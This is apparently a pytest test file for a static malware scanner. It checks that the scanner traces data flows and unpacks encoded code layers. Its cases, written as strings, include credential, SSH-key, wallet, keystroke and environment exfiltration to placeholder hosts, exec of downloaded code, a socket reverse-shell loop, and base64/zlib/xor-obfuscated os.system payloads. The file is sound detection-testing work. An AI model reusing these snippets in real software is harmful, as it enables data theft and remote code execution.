"""Sources that reach sinks, each beside a near miss in which they do not; and layers of code that is data first."""

# ruff: noqa: E501 - a table reads best with one case in a line

from __future__ import annotations

import base64
import zlib

import pytest

from assay.scanner.code.facts import FlowFact
from tests.code.evaluation import facts_of, package

_HEAD = "import os, socket, requests, subprocess, base64, platform, getpass, ctypes, sys\n"


def flows(source: str) -> set[tuple[str, str]]:
    return {(flow.source, flow.sink) for flow in facts_of(_HEAD + source).flows}


@pytest.mark.parametrize(
    ("source", "flow", "near_miss"),
    [
        ("requests.post(u, data=dict(os.environ))", ("environment", "network"), "requests.post(u, data=dict(a))"),
        ("k = os.getenv('TOKEN')\nrequests.get(u, params={'k': k})", ("environment", "network"), "k = os.getenv('TOKEN')\nrequests.get(u)"),
        ("requests.post(u, json={'h': socket.gethostname()})", ("identity", "network"), "requests.post(u, json={'h': len(socket.gethostname())})"),
        ("with open('/a/.ssh/id_rsa') as f:\n    requests.post(u, files={'f': f.read()})", ("credential", "network"), "with open('/a/notes') as f:\n    requests.post(u, files={'f': f.read()})"),
        ("requests.post(u, files={'f': open('/a/.ssh/id_rsa', 'rb')})", ("credential", "network"), "requests.post(u, files={'f': open('/a/notes', 'rb')})"),
        ("requests.post(u, files={'f': ('n', open(q, 'rb'))})", ("file", "network"), "open(q, 'w').write('a')\nrequests.post(u)"),
        ("from pynput import keyboard\ndef p(k):\n    requests.post(u, data=str(k))\nkeyboard.Listener(on_press=p)", ("keys", "network"), "import threading\ndef p(k):\n    requests.post(u, data=str(k))\nthreading.Thread(target=p)"),
        ("from cryptography.fernet import Fernet\nFernet(k).encrypt(open(q, 'rb').read())", ("file", "cipher"), "from cryptography.fernet import Fernet\nopen(q, 'rb').read()\nFernet(k).encrypt(b'a')"),
        ("import site\nopen(site.getsitepackages()[0] + '/a.py', 'w')", ("folder", "open"), "import site\nsite.getsitepackages()\nopen('a.py', 'w')"),
        ("import smtplib\nm = smtplib.SMTP_SSL(h, 465)\nm.send_message(dict(os.environ))", ("environment", "network"), "import smtplib\nm = smtplib.SMTP_SSL(h, 465)\nm.send_message('a')\ndict(os.environ)"),
        ("requests.get(u + os.getcwd())", ("folder", "network"), "requests.get(u + str(len(os.getcwd())))"),
        ("p = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\nrequests.post(u, data=open(p, 'rb').read())", ("credential", "network"), "p = os.path.join(os.getenv('APPDATA'), 'app.log')\nrequests.post(u, data=open(p, 'rb').read())"),
        ("from pathlib import Path\nrequests.post(u, data=(Path.home() / '.aws' / 'credentials').read_text())", ("credential", "network"), "from pathlib import Path\nrequests.post(u, data=(Path.home() / 'x').read_text())"),
        ("exec(requests.get(u).text)", ("remote", "code"), "print(requests.get(u).text)"),
        ("from urllib.request import urlopen as o\nr = o(u)\nc = r.read().decode()\neval(compile(c, 'a', 'exec'))", ("remote", "code"), "from urllib.request import urlopen as o\nr = o(u)\nc = r.read().decode()"),
        ("open('a.exe', 'wb').write(requests.get(u).content)\nos.startfile('a.exe')", ("remote", "write"), "open('a.exe', 'wb').write(b'')"),
        ("subprocess.Popen(requests.get(u).text, shell=True)", ("remote", "process"), "subprocess.Popen('ls', shell=True)\nrequests.get(u)"),
        ("s = socket.socket()\ns.connect((h, 1))\nwhile True:\n    c = s.recv(99)\n    s.send(subprocess.check_output(c, shell=True))", ("process", "network"), "s = socket.socket()\ns.connect((h, 1))\ns.send(b'a')\nsubprocess.check_output('ls')"),
        ("d = b''\nfor i in unknown:\n    d += s_.recv(9)\nexec(base64.b64decode('YT0x'))", ("blob", "code"), "base64.b64decode('YT0x')"),
        ("socket.gethostbyname(getpass.getuser() + '.x.example')", ("identity", "dns"), "socket.gethostbyname('x.example')"),
        ("def send(private_key):\n    requests.post(u, json={'k': private_key})", ("parameter", "network"), "def send(private_key):\n    requests.post(u, json={'k': hash(private_key)})"),
        ("import pyperclip\nrequests.post(u, data=pyperclip.paste())", ("clipboard", "network"), "import pyperclip\npyperclip.paste()\nrequests.post(u)"),
        ("class A:\n    def __init__(self):\n        self.e = os.environ['T']\n    def go(self):\n        requests.post(u, data=self.e)", ("environment", "network"), "class A:\n    def __init__(self):\n        self.e = os.environ['T']\n    def go(self):\n        requests.post(u, data=self.f)"),
        ("def get():\n    return requests.get(u).text\ndef run(c):\n    exec(c)\nrun(get())", ("remote", "code"), "def get():\n    return requests.get(u).text\ndef run(c):\n    exec('a = 1')\nrun(get())"),
        ("x = [os.environ['T']]\nrequests.post(u, data='\\n'.join(x))", ("environment", "network"), "x = [os.environ['T']]\nrequests.post(u, data='\\n'.join([]))"),
        ("d = {}\nd['k'] = os.environ['T']\nrequests.post(u, json=d)", ("environment", "network"), "d = {}\nd['k'] = 1\nrequests.post(u, json=d)"),
        ("import shutil\nshutil.copy('/a/.ssh/id_rsa', 'k')\nrequests.post(u, data=open('k').read())", ("credential", "network"), "import shutil\nshutil.copy('/a/notes', 'k')\nrequests.post(u, data=open('k').read())"),
        ("import zipfile\nz = zipfile.ZipFile('a.zip', 'w')\nz.write('/a/.ssh/id_rsa')\nrequests.post(u, data=open('a.zip', 'rb').read())", ("credential", "network"), "import zipfile\nz = zipfile.ZipFile('a.zip', 'w')\nz.write('/a/notes')\nrequests.post(u, data=open('a.zip', 'rb').read())"),
        ("import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/a/.ssh/id_rsa')\nrequests.post(u, data=b.getvalue())", ("credential", "network"), "import io, zipfile\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/a/.ssh/id_rsa')\nrequests.post(u, data=b'')"),
        ("from configparser import ConfigParser\nc = ConfigParser()\nc.read('/a/.pypirc')\nrequests.post(u, data=c['pypi']['password'])", ("credential", "network"), "from configparser import ConfigParser\nc = ConfigParser()\nc.read('/a/.pypirc')\nrequests.post(u)"),
        ("import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\nrequests.post(u, data=b.getvalue())", ("screen", "network"), "import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab()\nrequests.post(u, data=b.getvalue())"),
        ("from discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content=str(os.environ)).execute()", ("environment", "network"), "from discord_webhook import DiscordWebhook\nDiscordWebhook(url=u, content='up').execute()"),
    ],
)  # fmt: skip
def test_a_source_reaches_a_sink(source: str, flow: tuple[str, str], near_miss: str) -> None:
    assert flow in flows(source)
    assert flow not in flows(near_miss)


def test_what_one_method_puts_into_an_object_another_sends() -> None:
    source = """
        class A:
            def __init__(self): self.out = []
            def grab(self): self.out.append(open('/a/.ssh/id_rsa').read())
            def send(self): requests.post(u, json=self.out)
        A().grab()
    """
    assert ("credential", "network") in {
        (f.source, f.sink) for f in facts_of("import requests" + source.replace("\n        ", "\n")).flows
    }


def test_a_flow_goes_through_modules() -> None:
    found = package(
        p="",
        p__a="import os\ndef secret():\n    return os.environ['T']",
        p__b="import requests\ndef send(d):\n    requests.post('https://h.example/c', data=d)",
        p__c="from .a import secret\nfrom p.b import send\nsend(secret())",
    )
    (flow,) = (flow for flow in found.flows if flow.source == "environment")
    assert isinstance(flow, FlowFact)
    assert (flow.detail, flow.role, flow.target) == ("T", "data", "https://h.example/c")
    assert [station[0] for station in flow.chain][::2] == ["p.a", "p.b"]
    assert flow.where.at_import


_PAYLOAD = b"import os\nos.system('whoami')"


@pytest.mark.parametrize(
    ("source", "encodings"),
    [
        (f"import base64\nexec(base64.b64decode({base64.b64encode(_PAYLOAD)!r}))", "base64"),
        (f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(_PAYLOAD))!r})))", "base64 zlib"),
        (f"_ = lambda b: __import__('zlib').decompress(__import__('base64').b64decode(b[::-1]))\nexec((_)({base64.b64encode(zlib.compress(_PAYLOAD))[::-1]!r}))", "reverse base64 zlib"),
        (f"exec(''.join(map(chr, {list(_PAYLOAD)!r})))", "chr join"),
        (f"exec({_PAYLOAD.decode()!r})", ""),
        (f"import sys, subprocess\nsubprocess.run([sys.executable, '-c', {_PAYLOAD.decode()!r}])", ""),
        (f"import os\nos.system('python -c \"' + {_PAYLOAD.decode()!r} + '\"')", "concat"),
        (f"open('a.py', 'w').write({_PAYLOAD.decode()!r})", ""),
        (f"exec(compile(bytes(c ^ 9 for c in {bytes(c ^ 9 for c in _PAYLOAD)!r}), '', 'exec'))", "xor chr"),
    ],
)  # fmt: skip
def test_layers_are_read_and_evaluated(source: str, encodings: str) -> None:
    found = facts_of(source)
    layer = next(layer for layer in found.layers if layer.parsed)
    assert layer.encodings == tuple(encodings.split())
    inner = [fact for fact in found.calls if fact.where.layer == layer.number and fact.name == "os.system"]
    assert [fact.arguments[0].value.value for fact in inner] == ["whoami"]


def test_a_layer_inside_a_layer() -> None:
    inner = base64.b64encode(_PAYLOAD).decode()
    outer = base64.b64encode(f"exec(base64.b64decode('{inner}'))".encode()).decode()
    found = facts_of(f"import base64\nexec(base64.b64decode('{outer}'))")
    assert [layer.number for layer in found.layers] == [1, 2]
    assert any(fact.where.layer == 2 and fact.name == "os.system" for fact in found.calls)


def test_a_layer_sees_the_names_of_the_code_around_it() -> None:
    found = facts_of("import os as q\nexec('r = q.system')\nr('a')")
    assert "os.system" in {fact.name for fact in found.calls}


def test_text_that_is_executed_again_and_again_is_one_layer() -> None:
    found = facts_of("import os\nfor name in ('a', 'b', 'c'):\n    eval(compile('os.system(name)', '', 'eval'))")
    assert [(layer.number, layer.sink, layer.parsed) for layer in found.layers] == [
        (1, "compile", True),
        (2, "code", False),
    ]
    inner = [fact for fact in found.calls if fact.name == "os.system"]
    assert {(fact.where.layer, fact.arguments[0].value.value) for fact in inner} == {(1, "a"), (1, "b"), (1, "c")}


def test_text_that_executes_itself_ends() -> None:
    assert facts_of("q = 'eval(q)'\neval(q)").exhausted == ()


def test_unknown_parts_of_a_layer_do_not_hide_the_rest() -> None:
    found = facts_of("exec('import os; os.system(' + unknown + ')')")
    assert "os.system" in {fact.name for fact in found.calls}


@pytest.mark.parametrize(
    "source", ["open('a.txt', 'w').write('import os is a statement')", "print('exec(a)')", "eval(' ')"]
)
def test_text_that_is_not_run_is_no_layer(source: str) -> None:
    assert not any(layer.parsed for layer in facts_of(source).layers)


@pytest.mark.parametrize(
    ("whole", "a", "b"),
    [
        ("from .b import *\nexec(get())", "import requests\ndef get(): return requests.get('u').text", "from .a import *"),
        ("import requests\nfrom . import b\nfrom . import a\nexec(a.value)", "value = ''",
         "import requests\nfrom . import a\na.value = requests.get('u').text"),
        ("from .b import run\nrun()", "import requests\nfrom . import b\ndef get(): return requests.get('u').text",
         "from . import a\ndef run(): exec(a.get())"),
    ],
)  # fmt: skip
def test_modules_that_a_package_imports_are_complete_when_it_is_evaluated(whole: str, a: str, b: str) -> None:
    found = package(p=whole, p__a=a, p__b=b)
    assert ("remote", "code") in {(flow.source, flow.sink) for flow in found.flows}


def test_a_list_that_a_callback_fills_may_have_any_length() -> None:
    source = """
        import requests
        from pynput import keyboard
        keys = []
        def pressed(key):
            keys.append(str(key))
            if len(keys) > 50:
                requests.post("u", data="".join(keys))
        keyboard.Listener(on_press=pressed).start()
    """
    (flow,) = {(f.source, f.sink, f.where.conditions) for f in facts_of(source).flows if f.sink == "network"}
    assert flow == ("keys", "network", ())


@pytest.mark.parametrize("body", ["os.system('id')", "exec(\"__import__('os').system('id')\")"])
def test_a_branch_that_is_passed_over_first_hides_nothing(body: str) -> None:
    facts = facts_of(f"import os\ndef f(x):\n    if x:\n        {body}\nf(0)\nf(1)\n")
    assert [call.where.conditions for call in facts.calls if call.name == "os.system"] == [()]
    assert all("never" not in layer.where.conditions for layer in facts.layers)


def test_a_branch_that_is_never_taken_is_said_to_be_dead() -> None:
    facts = facts_of("import os\ndef f(x):\n    if x:\n        os.system('id')\nf(0)\n")
    assert [call.where.conditions for call in facts.calls if call.name == "os.system"] == [("never",)]
